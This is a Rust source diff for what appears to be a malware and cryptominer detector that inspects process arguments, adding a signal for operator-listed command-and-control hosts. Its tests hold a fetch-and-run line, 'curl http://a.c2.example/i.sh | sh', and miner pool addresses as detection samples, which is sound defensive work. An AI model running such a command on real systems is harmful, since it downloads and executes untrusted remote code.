@@ -1,9 +1,10 @@
 //! What a process says of itself in its arguments.
 
+use super::indicators::{Endpoint, Indicators, is_name_below};
 use super::rules::{Lists, Signal, holds};
 use super::signals::Seen;
-use super::wallet;
 use crate::saying::said;
+use crate::wallet;
 
 /// The three alignments of each word in base64, as it stands inside a longer text.
 const ENCODED: [&[u8]; 6] = [
@@ -27,8 +28,8 @@ fn words(argv: &[Vec<u8>]) -> Vec<&[u8]> {
         .collect()
 }
 
-/// What the arguments say; the first is the process's own name. `pools` are names and addresses from the operator.
-pub(super) fn signals(argv: &[Vec<u8>], lists: &Lists, pools: &[String]) -> Vec<Seen> {
+/// What the arguments say; the first is the process's own name.
+pub(super) fn signals(argv: &[Vec<u8>], lists: &Lists, indicators: &Indicators) -> Vec<Seen> {
     let words = words(argv);
     let mut seen = Vec::new();
     let mut once = |signal: Signal, value: String| {
@@ -64,7 +65,8 @@ pub(super) fn signals(argv: &[Vec<u8>], lists: &Lists, pools: &[String]) -> Vec<
             once(Signal::Benchmark, said(word));
         }
     }
-    seen.extend(pool_name(&words, lists, pools));
+    seen.extend(pool_name(&words, lists, &indicators.pools));
+    seen.extend(indicator_name(&words, &indicators.remotes));
     seen.extend(options(&words, lists));
     seen.extend(gpu_options(&words));
     seen.extend(minergate(argv));
@@ -94,7 +96,7 @@ fn value_of<'a>(word: &'a [u8], options: &[&[u8]]) -> Option<&'a [u8]> {
 
 /// A pool by name or address, where a miner would have it: after a pool's option, in a pool's scheme, or as `name:port`.
 /// Addresses of the web (`https://api.POOL/`) are no pools.
-fn pool_name(words: &[&[u8]], lists: &Lists, pools: &[String]) -> Option<Seen> {
+fn pool_name(words: &[&[u8]], lists: &Lists, pools: &[Endpoint]) -> Option<Seen> {
     words.iter().enumerate().find_map(|(at, word)| {
         let after_option = at.checked_sub(1).is_some_and(|at| POOL_OPTIONS.contains(&words[at]));
         let scheme = scheme(word);
@@ -106,21 +108,13 @@ fn pool_name(words: &[&[u8]], lists: &Lists, pools: &[String]) -> Option<Seen> {
             Some(at) => &end[at + 3..],
             None => end.strip_prefix(b"-o").unwrap_or(end),
         };
-        let end = end.split(|b| *b == b'/').next().unwrap_or(end);
-        let end = end.rsplit(|b| *b == b'@').next().unwrap_or(end);
-        let (name, port) = match end.iter().rposition(|b| *b == b':') {
-            Some(at) => (&end[..at], Some(&end[at + 1..])),
-            None => (end, None),
-        };
+        let (end, name, port) = ends(end);
         let has_port = port.is_some_and(|port| !port.is_empty() && port.iter().all(u8::is_ascii_digit));
         if !has_port && !after_option && scheme.is_none() {
             return None;
         }
-        let known = lists
-            .pools
-            .iter()
-            .chain(pools)
-            .find(|pool| is_name_below(name, host_of(pool).as_bytes()))?;
+        let listed = lists.pools.iter().find(|pool| is_name_below(name, pool.as_bytes()));
+        let known = listed.or_else(|| Some(&pools.iter().find(|pool| pool.is_named(name))?.text))?;
         Some(
             Seen::new(Signal::PoolName)
                 .field("value", said(end))
@@ -129,21 +123,36 @@ fn pool_name(words: &[&[u8]], lists: &Lists, pools: &[String]) -> Option<Seen> {
     })
 }
 
-/// A pool of the operator's list without its port.
-pub(super) fn host_of(pool: &str) -> &str {
-    match pool.rsplit_once(':') {
-        Some((host, port)) if port.parse::<u16>().is_ok() && !host.contains(':') => host,
-        _ => pool,
+/// A host with its port, the host alone, the port alone; what stands before and behind in an address of the web left out.
+fn ends(word: &[u8]) -> (&[u8], &[u8], Option<&[u8]>) {
+    let end = word.split(|b| *b == b'/').next().unwrap_or(word);
+    let end = end.rsplit(|b| *b == b'@').next().unwrap_or(end);
+    match end.iter().rposition(|b| *b == b':') {
+        Some(at) => (end, &end[..at], Some(&end[at + 1..])),
+        None => (end, end, None),
     }
 }
 
-/// Whether a name is `parent` or lies below it, by whole labels.
-fn is_name_below(name: &[u8], parent: &[u8]) -> bool {
-    let name = name.strip_suffix(b".").unwrap_or(name);
-    let Some(at) = name.len().checked_sub(parent.len()) else {
-        return false;
-    };
-    !parent.is_empty() && name[at..].eq_ignore_ascii_case(parent) && (at == 0 || name[at - 1] == b'.')
+/// What an alarm names, as a word of its own or in an address of any scheme.
+fn indicator_name(words: &[&[u8]], remotes: &[Endpoint]) -> Option<Seen> {
+    if remotes.is_empty() {
+        return None;
+    }
+    words.iter().find_map(|word| {
+        let rest = match word.windows(3).position(|run| run == b"://") {
+            Some(at) => &word[at + 3..],
+            None => word,
+        };
+        let (end, name, _) = ends(rest);
+        let known = remotes
+            .iter()
+            .find(|remote| remote.is_named(name) || remote.is_named(end))?;
+        Some(
+            Seen::new(Signal::IndicatorName)
+                .field("value", said(end))
+                .field("indicator", said(known.text.as_bytes())),
+        )
+    })
 }
 
 fn options(words: &[&[u8]], lists: &Lists) -> Option<Seen> {
@@ -219,7 +228,8 @@ mod tests {
     fn codes(line: &str) -> Vec<&'static str> {
         let argv: Vec<Vec<u8>> = line.split('|').map(|word| word.as_bytes().to_vec()).collect();
         let pools = ["203.0.113.9:3333".to_owned(), "pool.example".to_owned()];
-        signals(&argv, &shipped().lists, &pools)
+        let indicators = Indicators::new(&pools, &["c2.example".to_owned(), "198.51.100.7".to_owned()]);
+        signals(&argv, &shipped().lists, &indicators)
             .iter()
             .map(|seen| seen.signal.code())
             .collect()
@@ -227,7 +237,7 @@ mod tests {
 
     #[test]
     fn arguments() {
-        let rows: [(&str, &[&str]); 22] = [
+        let rows: [(&str, &[&str]); 26] = [
             ("x|-o|stratum+tcp://h:1", &["stratum_url"]),
             ("x|-ostratum+tcp://h:1", &["stratum_url"]),
             (
@@ -238,6 +248,10 @@ mod tests {
             ("x|gulf.moneroocean.stream:10128", &["pool_name"]),
             ("x|-o|203.0.113.9:3333", &["pool_name"]),
             ("x|a.pool.example:1", &["pool_name"]),
+            ("sh|-c|curl http://a.c2.example/i.sh | sh", &["indicator_name"]),
+            ("x|198.51.100.7:4444", &["indicator_name"]),
+            ("x|--server=c2.example", &[]),
+            ("x|c2.example.org", &[]),
             ("x|notpool.example:1", &[]),
             ("cat|zpool.cache", &[]),
             ("x|zpool.cache:1", &[]),
@@ -266,8 +280,9 @@ mod tests {
         #[test]
         fn no_arguments_panic(argv: Vec<Vec<u8>>, glued in "-o?[:/.@=a-z]{0,12}") {
             let lists = shipped().lists;
-            signals(&argv, &lists, &[]);
-            signals(&[b"x".to_vec(), glued.into_bytes()], &lists, &[":".to_owned(), String::new()]);
+            signals(&argv, &lists, &Indicators::default());
+            let odd = Indicators::new(&[":".to_owned(), String::new()], &["a".to_owned(), "::1".to_owned()]);
+            signals(&[b"x".to_vec(), glued.into_bytes()], &lists, &odd);
         }
     }
 }
